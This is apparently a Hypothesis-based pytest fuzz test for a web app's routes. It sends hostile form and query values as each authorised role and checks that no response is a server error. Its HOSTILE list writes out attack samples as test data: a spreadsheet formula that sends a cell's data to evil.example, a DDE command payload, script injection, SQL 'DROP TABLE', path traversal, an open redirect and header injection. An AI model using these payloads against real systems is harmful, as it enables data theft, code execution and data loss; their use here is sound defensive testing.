"""Hostile input on every route, as every role: no answer is ever a 500.

For each route of the authorisation matrix (every route of ``app.url_map`` has a row there), Hypothesis makes
query arguments or form fields and sends them as every role that may use the route (a refused role never
reaches the view). Two kinds of example: every name the app reads at once, each with a hostile value (digits
that are not 0-9, huge and negative numbers, dates near year 1 and 9999, control characters, a 10 KB string,
formulas, markup, paths); or a few names with whatever Hypothesis makes up (several values for one name, NUL
bytes). The names are the app's own: every field of every form and every list's filter. A POST carries the
role's CSRF token, so it reaches the view. Each request runs in a savepoint that is rolled back.

``make test`` runs FUZZ_EXAMPLES (3) examples per route and backend, in a fixed sequence under CI (so a
failure there is the same on a rerun) and new ones on every local run. A deeper search:
``FUZZ_EXAMPLES=40 .venv/bin/python -m pytest tests/test_fuzz.py -n 2`` (about 40 examples meet every hostile
value once per name). No example database is kept.
"""

import os
from dataclasses import fields

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from wtforms.fields.core import UnboundField

from blueprints.core.args import ListState
from blueprints.core.forms import AppForm
from tests.test_authorisation_matrix import MATRIX, OK, case, world  # noqa: F401 (fixtures)

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", 3))  # per route, each sent as every role that may use it

# Each route once per method, with the roles that may use it (a refused role never reaches the view).
ROUTES = {
    (method, url.split("?")[0]): sorted({role for role, outcome in outcomes.items() if outcome == OK} or {"admin"})
    for rows in MATRIX.values()
    for method, url, outcomes, *_extra in rows
}

HOSTILE = [
    "²",
    "٣",
    "𝟘",
    "-1",
    "0",
    "99999999999999999999999",
    "1e309",
    "NaN",
    "9999-12-31",
    "0001-01-01",
    "9999-W52",
    "0001-W01",
    "2026-02-30",
    "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59-01:00",
    " ",
    "\x00",
    "a\x00b",
    "Projekt\r\nBcc: x@example.org",
    "\x1b[31m",
    '=HYPERLINK("http://evil.example/?d="&A1;"x")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "'; DROP TABLE challenge; --",
    "%",
    "_",
    "\\",
    "../../etc/passwd",
    "//evil.example",
    "x" * 10_240,
    "60130000",
    "true",
]
BUNDLED = [value for value in HOSTILE if "\x00" not in value]


def _form_field_names() -> set[str]:
    """The names of every field of every form in the app (with the prefix the pages use where known)."""
    names: set[str] = set()

    def walk(cls: type) -> None:
        for sub in cls.__subclasses__():
            names.update(name for name, value in vars(sub).items() if isinstance(value, UnboundField))
            walk(sub)

    walk(AppForm)
    return names | {f"token-{name}" for name in ("name",)}


def _filter_names() -> set[str]:
    """The query arguments of every list (their state dataclasses), and the few read one by one."""
    names: set[str] = set()

    def walk(cls: type) -> None:
        for sub in cls.__subclasses__():
            names.update(f.name for f in fields(sub))
            walk(sub)

    walk(ListState)
    return names | {"page", "q", "k", "vecka", "start", "end", "period", "from", "to", "next", "field", "lang"}


# Mostly the hostile values above, sometimes any text or number Hypothesis makes up.
value = st.one_of(st.sampled_from(HOSTILE), st.sampled_from(HOSTILE), st.text(max_size=40), st.integers().map(str))
values = st.one_of(value, st.lists(value, min_size=2, max_size=3))


def _bundle(names: list[str]) -> st.SearchStrategy[dict[str, str]]:
    """Every name at once, each with a hostile value (shifted by one per name): over len(BUNDLED) examples every
    name of every route meets every value. (A NUL byte anywhere stops the whole request at the door, so it is
    left to the few-names examples, or no bundled request would reach a view.)"""
    return st.sampled_from(range(len(BUNDLED))).map(
        lambda shift: {name: BUNDLED[(shift + n) % len(BUNDLED)] for n, name in enumerate(names)}
    )


def _any_values(names: list[str]) -> st.SearchStrategy[dict[str, object]]:
    """A few names with whatever Hypothesis makes up (text, numbers, several values for one name)."""
    return st.dictionaries(st.sampled_from(names), values, max_size=4)


@pytest.fixture(scope="module")
def names(shared_app):
    """Every parameter name the app reads (the app has imported every area's forms by then)."""
    return sorted(_form_field_names() | _filter_names())


@pytest.mark.parametrize(("method", "url"), sorted(ROUTES), ids=[f"{m} {u}" for m, u in sorted(ROUTES)])
@settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    derandomize=bool(os.environ.get("CI")),
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(data=st.data())
def test_no_route_answers_500_to_hostile_input(shared_app, case, names, method, url, data):  # noqa: F811
    params = data.draw(st.one_of(_bundle(names), _bundle(names), _any_values(names)), label="params")
    path = url.format(**case.objects)
    for role in ROUTES[(method, url)]:
        cookie, token = case.sessions[role]
        client = shared_app.test_client()
        client.set_cookie(shared_app.config["SESSION_COOKIE_NAME"], cookie)
        savepoint = case.connection.begin_nested()
        try:
            if method == "GET":
                response = client.get(path, query_string=params)
            else:
                response = client.open(path, method=method, data={**params, "csrf_token": token})
            assert response.status_code < 500, f"{role} {method} {path}: {response.status_code}"
        finally:
            savepoint.rollback()
